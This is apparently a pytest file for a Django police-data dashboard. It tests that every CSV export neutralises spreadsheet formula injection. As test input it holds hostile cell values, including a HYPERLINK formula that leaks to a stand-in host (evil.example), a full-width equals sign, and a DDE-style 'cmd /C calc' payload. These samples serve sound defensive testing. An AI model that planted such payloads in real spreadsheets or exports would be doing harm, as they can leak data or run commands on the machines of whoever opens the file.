"""Every CSV the police data pages send is written through cities/csvsafe.py: a cell a spreadsheet
would run as a formula comes out as text, whatever hides its start (a space, a full-width sign)."""

import csv
import io
import re

import pytest
from django.urls import reverse

from disparities.models import ImportProblem
from disparities.services import dashboards, datasets, imports
from tests.builders import county_benchmark, place_table, police_file, published_snapshot

pytestmark = pytest.mark.django_db

# What a hostile or careless file can hold, and what older escapers let through: a formula after a
# space, a full-width equals sign (some spreadsheets read it as "="), an @ after a space.
HOSTILE = [
    ' =HYPERLINK("http://evil.example/?leak=1", "x")',
    "＝SUM(1+1)",
    " @SUM(A1:A9)",
    "-1+1+cmd(' /C calc')",
]
FILE = (
    "DATE,TIME,RACE,SEX,CHARGE\n"
    + "".join(f'4/{day}/17,0700,{race},M,"{charge.replace(chr(34), chr(34) * 2)}"\n'
              for day, (race, charge) in enumerate([(r, c) for c in HOSTILE for r in ("W", "W", "B")], start=1))
    + '"=HYPERLINK(""http://evil.example"")",0800,W,M,THEFT\n'  # an unreadable date: kept raw in problems.csv
    + "4/20/17,0900, @SUM(A1),F,THEFT\n"  # a race value the mapping below does not list
    + "4/21/17,0900,W\n"  # a short line: rejected
)  # fmt: skip
TRIGGERS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"


def inert(cell: str) -> bool:
    """What a spreadsheet shows as text: nothing that starts (after spaces) with a formula sign,
    unless the cell starts with the quote that makes it text, or is a plain number."""
    if cell.startswith("'") or re.fullmatch(r"[+-]?\d+(\.\d+)?", cell):
        return True
    return not cell.lstrip()[:1] or cell.lstrip()[0] not in TRIGGERS


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


@pytest.fixture
def hostile(city):
    dataset = datasets.dataset_upload(
        city=city, kind="arrest", file=police_file("arrests.csv", FILE.encode())
    )
    mapping = dict(dataset.mapping)
    mapping["values"] = {**mapping["values"], "subject_race": {"W": "white", "B": "black"}}
    datasets.dataset_confirm(dataset=dataset, mapping=mapping, enqueue=False)
    dataset = imports.dataset_import(dataset_id=dataset.pk).dataset
    assert dataset.status == "imported", dataset.status_message
    return dataset


def test_problems_csv_keeps_the_raw_values_and_runs_none_of_them(client_as, city, hostile):
    kept = set(ImportProblem.objects.filter(dataset=hostile).values_list("value", flat=True))
    assert any(v.lstrip().startswith("=HYPERLINK") for v in kept) and any("@SUM(A1)" in v for v in kept)
    lines = rows_of(
        client_as(city, "staff").get(reverse("disparities:problems_csv", args=[city.slug, hostile.pk]))
    )
    assert lines[0] == ["line", "problem", "column", "value", "reason"]
    cells = [cell for line in lines for cell in line]
    assert all(inert(cell) for cell in cells), [c for c in cells if not inert(c)]
    # Nothing is lost: each value is there, behind the quote that keeps it text.
    shown = {line[3].removeprefix("'") for line in lines[1:]}
    assert kept <= shown


def test_every_table_export_and_public_export_keeps_labels_as_text(client_as, client, city, hostile):
    county_benchmark(city)
    member = client_as(city, "staff")
    doc = member.get(reverse("disparities:report_json", args=[city.slug, hostile.pk])).json()
    labels = []
    for t in doc["tables"]:
        lines = rows_of(member.get(reverse("disparities:table_csv", args=[city.slug, hostile.pk, t["key"]])))
        cells = [cell for line in lines for cell in line]
        assert all(inert(cell) for cell in cells), (t["key"], [c for c in cells if not inert(c)])
        labels += [line[0] for line in lines[2:]]
    for text in HOSTILE:
        assert "'" + text.strip() in labels  # every charge, as text (surrounding spaces trimmed at import)
    snapshot = published_snapshot(city, dataset=hostile, title="＝Arrests by race")
    client.logout()
    public = [t["key"] for t in snapshot.content["tables"]]
    assert "types" in public
    for key in public:
        lines = rows_of(client.get(reverse("disparities:public_csv", args=[city.slug, snapshot.pk, key])))
        cells = [cell for line in lines for cell in line]
        assert all(inert(cell) for cell in cells), (key, [c for c in cells if not inert(c)])


def test_the_census_table_kept_for_a_benchmark_downloads_cell_for_cell_as_text(client_as, city):
    data = place_table().replace(b"Testville city", b'"=HYPERLINK(""http://evil.example"")"')
    (benchmark,) = dashboards.benchmark_create_from_upload(
        city=city, data=data, filename="t.csv", created_by=None
    )
    url = reverse("disparities:benchmark_file", args=[city.slug, benchmark.pk])
    lines = rows_of(client_as(city, "viewer").get(url))
    assert all(inert(cell) for line in lines for cell in line)
    assert lines[1][1] == '\'=HYPERLINK("http://evil.example")'
    expected = list(csv.reader(io.StringIO(data.decode())))
    assert [[cell.removeprefix("'") for cell in line] for line in lines] == expected
